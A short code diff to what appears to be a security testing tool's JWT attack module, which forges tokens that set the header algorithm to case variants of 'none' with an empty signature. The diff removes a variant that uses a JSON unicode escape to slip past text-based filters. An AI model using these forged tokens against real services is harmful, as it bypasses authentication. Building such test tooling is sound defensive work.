@@ -14,12 +14,9 @@ export default tokenAttack({
   provenBy: 'alg-none',
   forge({ victim }) {
     const { header, payload } = readToken(victim.token)
-    const spelt = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
+    return ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
       name: `alg "${alg}", empty signature`,
       token: assemble({ ...header, alg }, payload, ''),
     }))
-    // The same word once it is parsed; a filter that looks at the text of the header does not see it.
-    const escaped = JSON.stringify({ ...header, alg: 'none' }).replace('"none"', '"\\u006eone"')
-    return [...spelt, { name: 'alg "none" with a JSON escape in it', token: assemble(escaped, payload, '') }]
   },
 })
